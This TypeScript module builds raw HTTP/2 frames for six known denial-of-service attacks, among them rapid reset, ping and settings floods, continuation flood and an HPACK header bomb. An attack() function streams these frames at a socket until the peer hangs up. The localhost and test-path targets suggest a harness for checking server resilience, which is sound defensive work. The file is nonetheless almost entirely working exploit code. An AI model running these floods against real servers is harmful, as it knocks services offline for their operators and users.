import { once } from "node:events";
import type { Socket } from "node:net";

// What a hostile client of HTTP/2 can send, as bytes; each is bounded. The names are those under which they became known.

const FRAMES = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, continuation: 9 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;

/** An HTTP/2 frame (RFC 9113, section 4.1). */
function frame(
  type: keyof typeof FRAMES,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(FRAMES[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** What every connection begins with (RFC 9113, section 3.4), with empty settings. */
export const PREFACE = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame("settings", 0, 0),
]);

/** An orderly end: no stream was opened by the peer, and no error happened. */
export const GOAWAY = frame("goaway", 0, 0, Buffer.alloc(8));

/** A header field that enters the dynamic table (RFC 7541, section 6.2.1); texts under 127 bytes. */
function field(name: string, value: string): Buffer {
  const text = (s: string) => Buffer.concat([Buffer.from([s.length]), Buffer.from(s)]);
  return Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
}

/** A request's header block. Static table: 0x82 GET, 0x83 POST, 0x84 path /, 0x86 http, 0x87 https. */
export interface Target {
  readonly pseudo: readonly number[];
  readonly fields: readonly (readonly [string, string])[];
}

export const PAGE: Target = { pseudo: [0x82, 0x84, 0x87], fields: [[":authority", "localhost"]] };
export const CALL: Target = {
  pseudo: [0x83, 0x86],
  fields: [
    [":path", "/test.Test/Unary"],
    [":authority", "store.apps"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ],
};

function block({ pseudo, fields }: Target): Buffer {
  return Buffer.concat([Buffer.from(pseudo), ...fields.map(([name, value]) => field(name, value))]);
}

export interface Attack {
  /** The frames of one step: its nth, from 0. */
  readonly step: (target: Target, nth: number) => Buffer;
  readonly steps: number;
  /** Whether it takes what comes back; absent: it lets answers pile up. */
  readonly reads?: true;
  /** Whether its streams are refused one by one; absent: its connection is ended. */
  readonly refused?: true;
}

const stream = (nth: number) => 2 * nth + 1;

/** By name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset (CVE-2023-44487)": {
    step: (target, nth) =>
      Buffer.concat([
        frame("headers", END_HEADERS | END_STREAM, stream(nth), block(target)),
        frame("reset", 0, stream(nth), Buffer.from([0, 0, 0, 8])),
      ]),
    steps: 30_000,
    reads: true,
  },
  "settings flood (CVE-2019-9515)": {
    step: () => frame("settings", 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])),
    steps: 1_000_000,
  },
  "ping flood (CVE-2019-9512)": { step: () => frame("ping", 0, 0, Buffer.alloc(8)), steps: 1_000_000 },
  "continuation flood (CVE-2024-27316)": {
    step: (target, nth) =>
      nth === 0
        ? frame("headers", END_STREAM, 1, block(target))
        : frame("continuation", 0, 1, field(`x-${nth}`, "x".repeat(100))),
    steps: 30_000,
    reads: true,
  },
  "empty frames (CVE-2019-9518)": {
    step: ({ pseudo, fields }, nth) =>
      nth === 0
        ? frame("headers", END_HEADERS, 1, block({ pseudo: [0x83, ...pseudo.slice(1)], fields }))
        : frame("data", 0, 1),
    steps: 30_000,
    reads: true,
  },
  "header bomb (CVE-2016-1544)": {
    // One entry of the dynamic table, and then a byte for each time that it is meant: 0xbe is its newest.
    step: (target, nth) => {
      const bomb = [block(target), field("x-bomb", "x".repeat(120)), Buffer.alloc(12_000, 0xbe)];
      return frame("headers", END_HEADERS | END_STREAM, stream(nth), Buffer.concat(bomb));
    },
    steps: 500,
    reads: true,
    refused: true,
  },
};

/** Steps in one write. */
const BATCH = 250;

/** Attacks over a connection until the other side hangs up, or all steps are sent, as fast as it takes them. */
export async function attack(socket: Socket, { step, steps, reads }: Attack, target: Target): Promise<void> {
  const over = new AbortController();
  socket.on("error", () => {});
  socket.once("close", () => over.abort());
  if (reads) socket.resume();
  socket.write(PREFACE);
  for (let sent = 0; sent < steps && !over.signal.aborted; sent += BATCH) {
    const batch = Array.from({ length: BATCH }, (_, n) => step(target, sent + n));
    if (!socket.write(Buffer.concat(batch)))
      await once(socket, "drain", { signal: over.signal }).catch(() => {});
    // What came back is read in between.
    await new Promise(setImmediate);
  }
}
